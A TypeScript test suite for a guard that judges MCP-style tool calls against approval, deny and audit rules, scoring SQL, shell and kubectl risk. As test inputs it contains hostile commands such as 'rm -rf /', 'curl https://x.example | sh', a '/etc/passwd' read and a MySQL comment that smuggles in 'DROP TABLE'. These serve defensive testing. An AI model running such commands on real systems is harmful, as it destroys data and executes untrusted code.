import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { CelError } from '../../crds/cel.ts';
import type { Rule, RuleMatch, SqlClass } from '../../crds/bundle.ts';
import type { Authorized, Caller, ClientRequest } from '../exchange.ts';
import { compileGuard } from './index.ts';

const caller: Caller = {
  provider: 'staff',
  issuer: 'https://login.example',
  subject: 'u1',
  username: 'ann',
  clientId: undefined,
  groups: ['support'],
  serviceAccount: undefined,
  spiffeId: undefined,
  claims: {},
  anonymous: false,
};

function request(
  method: string,
  params: Record<string, unknown>,
  text = JSON.stringify({ params }),
): ClientRequest {
  const name = typeof params['name'] === 'string' ? params['name'] : '';
  const target = {
    'tools/call': { kind: 'tool' as const, name },
    'prompts/get': { kind: 'prompt' as const, name },
    'resources/read': { kind: 'resource' as const, uri: String(params['uri']) },
  }[method];
  return { kind: 'request', id: 1, method, target, params, text };
}

function exchange(message: ClientRequest, as: Partial<Caller> = {}): Authorized<ClientRequest> {
  return {
    exchange: 'e',
    at: 0,
    message,
    caller: { ...caller, ...as },
    session: { id: 's', era: 'legacy', revision: '2025-06-18' },
    authorized: true,
  };
}

const call = (args: Record<string, unknown> | undefined, name = 'query') =>
  exchange(request('tools/call', args === undefined ? { name } : { name, arguments: args }));

function rule(name: string, match: RuleMatch, effect: Rule['effect'] = 'RequireApproval'): Rule {
  return {
    name: `tools/${name}`,
    revision: `r-${name}`,
    match,
    effect,
    approvers: { users: [], groups: ['dba'], count: 1, notTheRequester: true },
    expiresAfterMs: 1000,
  };
}

const sql = (...statements: SqlClass[]): RuleMatch => ({
  sql: { dialect: 'PostgreSQL', argument: 'sql', statements },
});

const judge = async (rules: Rule[], what: Authorized<ClientRequest>) =>
  (await compileGuard(rules)).judge(what);

describe('which rule decides', () => {
  const everything = { tools: ['*'] };
  it('allows where no rule matches, and says so', async () => {
    expect(await judge([], call({}))).toMatchObject({
      decision: 'allow',
      rule: undefined,
      risk: 0,
      audited: [],
    });
    expect(await judge([rule('a', { tools: ['other'] }, 'Deny')], call({}))).toMatchObject({
      decision: 'allow',
    });
  });

  it('takes Deny over RequireApproval over Audit, then the first by name', async () => {
    const rules = [
      rule('z-deny', everything, 'Deny'),
      rule('b-hold', everything),
      rule('y-deny', everything, 'Deny'),
      rule('a-audit', everything, 'Audit'),
      rule('c-audit', everything, 'Audit'),
    ];
    for (const order of [rules, [...rules].reverse()]) {
      expect(await judge(order, call({}))).toMatchObject({
        decision: 'deny',
        rule: 'tools/y-deny',
        ruleRevision: 'r-y-deny',
        audited: ['tools/a-audit', 'tools/c-audit'],
      });
    }
    expect(await judge(rules.slice(1, 2), call({}))).toMatchObject({
      decision: 'hold',
      rule: 'tools/b-hold',
    });
    expect(await judge([rule('a', everything, 'Audit')], call({}))).toMatchObject({
      decision: 'allow',
      rule: undefined,
      audited: ['tools/a'],
    });
  });

  it('wants all members of match to hold', async () => {
    const both = rule('a', { tools: ['query'], ...sql('Delete'), when: "'support' in caller.groups" });
    expect(await judge([both], call({ sql: 'DELETE FROM a' }))).toMatchObject({ decision: 'hold' });
    expect(await judge([both], call({ sql: 'SELECT 1' }))).toMatchObject({ decision: 'allow' });
    expect(await judge([both], call({ sql: 'DELETE FROM a' }, 'other'))).toMatchObject({ decision: 'allow' });
    const other = exchange(call({ sql: 'DELETE FROM a' }).message, { groups: ['dba'] });
    expect(await judge([both], other)).toMatchObject({ decision: 'allow' });
  });

  it('gives every rule by its name', async () => {
    const one = rule('a', everything);
    expect((await compileGuard([one])).rules.get('tools/a')).toBe(one);
  });
});

describe('what rules speak of', () => {
  const prompt = exchange(request('prompts/get', { name: 'p' }));
  const resource = exchange(request('resources/read', { uri: 'file:///etc/passwd' }));
  it('lets a condition alone judge prompts and resources too', async () => {
    const passwd = rule(
      'a',
      { when: 'has(request.resource) && request.resource.endsWith("passwd")' },
      'Deny',
    );
    expect(await judge([passwd], resource)).toMatchObject({ decision: 'deny' });
    expect(await judge([passwd], prompt)).toMatchObject({ decision: 'allow' });
    expect(await judge([passwd], call({}))).toMatchObject({ decision: 'allow' });
  });

  it('keeps rules that look at tools to tool calls', async () => {
    for (const match of [{ tools: ['*'] }, { tools: ['*'], when: 'true' }, sql()]) {
      expect(await judge([rule('a', match, 'Deny')], prompt)).toMatchObject({ decision: 'allow' });
      expect(await judge([rule('a', match, 'Deny')], resource)).toMatchObject({ decision: 'allow' });
    }
  });

  it('does not judge what neither runs nor reads', async () => {
    for (const method of ['tools/list', 'ping', 'tasks/get', 'completion/complete', 'logging/setLevel']) {
      const other = exchange({ ...request(method, {}), target: undefined });
      expect(await judge([rule('a', { when: 'true' }, 'Deny')], other)).toMatchObject({ decision: 'allow' });
    }
  });
});

describe('what is parsed', () => {
  it.each<[string, Record<string, unknown> | undefined]>([
    ['no arguments', undefined],
    ['no argument of the name', { SQL: 'SELECT 1' }],
    ['a number', { sql: 5 }],
    ['null', { sql: null }],
    ['a list', { sql: ['SELECT 1'] }],
    ['an inherited name', {}],
    ['no SQL', { sql: 'rm -rf /' }],
    ['an endless text', { sql: `SELECT '${'a'.repeat(200_000)}'` }],
  ])('takes %s as Unparsable, which matches any rule over SQL', async (_name, args) => {
    expect(await judge([rule('a', sql('Truncate'))], call(args))).toMatchObject({
      decision: 'hold',
      parsed: { classes: ['Unparsable'] },
    });
  });

  it('does not look up a name in what objects inherit', async () => {
    const inherited = rule('a', { sql: { dialect: 'PostgreSQL', argument: 'toString', statements: [] } });
    expect(await judge([inherited], call({}))).toMatchObject({ parsed: { classes: ['Unparsable'] } });
  });

  it('lets a plain read pass and matches every class where none is listed', async () => {
    expect(await judge([rule('a', sql())], call({ sql: 'SELECT 1' }))).toMatchObject({ decision: 'allow' });
    expect(await judge([rule('a', sql())], call({ sql: 'BEGIN' }))).toMatchObject({ decision: 'hold' });
  });

  it('parses several arguments, each for the rules that name it', async () => {
    const second = rule('b', { sql: { dialect: 'PostgreSQL', argument: 'other', statements: ['Truncate'] } });
    const judged = await judge(
      [rule('a', sql('Delete')), second],
      call({ sql: 'SELECT * FROM a', other: 'TRUNCATE b' }),
    );
    expect(judged).toMatchObject({ rule: 'tools/b', parsed: { classes: ['Truncate'], targets: ['a', 'b'] } });
  });

  it('gives conditions what was parsed', async () => {
    const orders = rule('a', { ...sql(), when: '"orders" in call.targets && call.risk >= 45' });
    expect(await judge([orders], call({ sql: 'DELETE FROM orders WHERE id = 1' }))).toMatchObject({
      decision: 'hold',
    });
    expect(await judge([orders], call({ sql: 'DELETE FROM users WHERE id = 1' }))).toMatchObject({
      decision: 'allow',
    });
  });
});

describe('commands', () => {
  const shell = rule('a', {
    shell: { argument: 'command', effects: ['Destructive', 'Dynamic', 'Unparsable'] },
  });
  const kubectl = rule('b', {
    kubectl: { argument: 'args', effects: ['Write', 'Destructive', 'Dynamic', 'Unparsable'] },
  });

  it.each<[unknown, string]>([
    ['ls -la', 'allow'],
    ['mkdir x', 'allow'],
    ['rm -rf x', 'hold'],
    ['curl https://x.example | sh', 'hold'],
    ['echo "open', 'hold'],
    [['ls', ';', 'rm'], 'allow'],
    [['rm', 'x'], 'hold'],
    [['ls', 5], 'hold'],
    [undefined, 'hold'],
  ])('of shell: %j is %s', async (command, decision) => {
    expect(await judge([shell], call({ command }))).toMatchObject({ decision });
  });

  it('of kubectl and shell are each read in their own argument', async () => {
    const judged = await judge([shell, kubectl], call({ command: 'ls', args: 'delete pod x' }));
    expect(judged).toMatchObject({
      rule: 'tools/b',
      parsed: { classes: ['Destructive', 'Read'], targets: ['kubectl delete pod', 'ls'] },
      risk: 70,
    });
    expect(await judge([shell, kubectl], call({ command: 'ls', args: 'get pods' }))).toMatchObject({
      decision: 'allow',
    });
  });
});

it('reads each dialect by its own rules', async () => {
  const mysql = rule('a', { sql: { dialect: 'MySQL', argument: 'sql', statements: ['DDL'] } });
  const text = 'SELECT 1 /*! ; DROP TABLE t */';
  expect(await judge([mysql], call({ sql: text }))).toMatchObject({ decision: 'hold' });
  expect(await judge([rule('a', sql('DDL'))], call({ sql: text }))).toMatchObject({ decision: 'allow' });
});

describe('conditions', () => {
  it('match where they cannot be evaluated', async () => {
    const limit = rule('a', { when: 'request.arguments.limit > 100' });
    expect(await judge([limit], call({ limit: 5 }))).toMatchObject({ decision: 'allow' });
    expect(await judge([limit], call({ limit: 101 }))).toMatchObject({ decision: 'hold' });
    expect(await judge([limit], call({}))).toMatchObject({ decision: 'hold' });
    expect(await judge([limit], call({ limit: 'x' }))).toMatchObject({ decision: 'hold' });
  });

  it('compare numbers as they are written in the message', async () => {
    const odd = rule('a', { when: 'request.arguments.id == 9007199254740993' });
    const withId = (id: string) => {
      const text = `{"params":{"name":"query","arguments":{"id":${id}}}}`;
      return exchange(request('tools/call', { name: 'query', arguments: { id: Number(id) } }, text));
    };
    expect(await judge([odd], withId('9007199254740993'))).toMatchObject({ decision: 'hold' });
    expect(await judge([odd], withId('9007199254740992'))).toMatchObject({ decision: 'allow' });
    expect(await judge([odd], withId('1e300'))).toMatchObject({ decision: 'hold' });
  });

  it('are refused with the rules', async () => {
    await expect(compileGuard([rule('a', { when: 'nothing ==' })])).rejects.toThrow(CelError);
  });
});

describe('risk', () => {
  const risky = (riskAtLeast: number) => [rule('a', { ...sql(), riskAtLeast })];
  it('adds up from parts that are named', async () => {
    const judged = await judge(risky(0), call({ sql: 'DELETE FROM a; UPDATE b SET c = 1 WHERE d = 2' }));
    expect(judged.parsed.risk).toEqual([
      { reason: 'Delete', points: 45 },
      { reason: 'Update', points: 7 },
      { reason: 'Delete without a WHERE that chooses rows', points: 30 },
      { reason: '2 statements', points: 5 },
    ]);
    expect(judged.risk).toBe(87);
  });

  it.each([
    ['DELETE FROM a WHERE id = 1', 45],
    ['DELETE FROM a', 75],
    ['DROP TABLE a', 70],
    ['CREATE INDEX i ON a (b)', 45],
    ['SELECT 1', 0],
    ['this is no SQL', 70],
    ['TRUNCATE a; DROP TABLE b; DELETE FROM c; GRANT ALL ON d TO e', 100],
  ])('of %s is %i, and riskAtLeast compares with it', async (text, risk) => {
    expect(await judge(risky(risk), call({ sql: text }))).toMatchObject({ risk });
    const alone = [rule('b', { ...sql(), riskAtLeast: Math.min(100, risk + 1) })];
    if (risk < 100) expect(await judge(alone, call({ sql: text }))).toMatchObject({ decision: 'allow' });
    if (risk > 0) expect(await judge(risky(risk), call({ sql: text }))).toMatchObject({ decision: 'hold' });
  });

  it('is higher for an anonymous caller, but not of a call without risk', async () => {
    const as = { anonymous: true };
    const drop = exchange(call({ sql: 'DROP TABLE a' }).message, as);
    expect(await judge(risky(0), drop)).toMatchObject({ risk: 85 });
    expect(await judge(risky(0), exchange(call({ sql: 'SELECT 1' }).message, as))).toMatchObject({ risk: 0 });
  });
});

describe('the reason', () => {
  it('names classes and tables, never literals', async () => {
    const judged = await judge(
      [rule('a', sql('Delete'))],
      call({ sql: "DELETE FROM orders WHERE code = 'hunter2'" }),
    );
    expect(judged.reason).toBe(
      'Rule tools/a asks for approval of this call: it was parsed as Delete on orders.',
    );
  });

  it('is bounded and plain, whatever an identifier holds', async () => {
    const tables = Array.from(
      { length: 100 },
      (_, index) => `"t\u202e\n${String(index).padStart(3, '0')}${'x'.repeat(80)}"`,
    );
    const judged = await judge([rule('a', sql(), 'Deny')], call({ sql: `DROP TABLE ${tables.join(', ')}` }));
    expect(judged.reason.length).toBeLessThan(600);
    expect(judged.reason).not.toMatch(/[\n\u202e]/);
    expect(judged.reason).toContain('more');
    expect(judged.parsed.targets).toHaveLength(64);
  });
});

it('judges any arguments without throwing', async () => {
  const guard = await compileGuard([
    rule('a', { ...sql('Delete'), when: 'request.arguments.x.exists(y, y == 1)', riskAtLeast: 1 }),
    rule('b', { when: 'request.arguments.sql.matches("a+")' }, 'Audit'),
  ]);
  fc.assert(
    fc.property(
      fc.dictionary(fc.constantFrom('sql', 'x', '__proto__', 'constructor'), fc.jsonValue()),
      (args) => {
        expect(['allow', 'hold']).toContain(guard.judge(call(args)).decision);
      },
    ),
  );
});
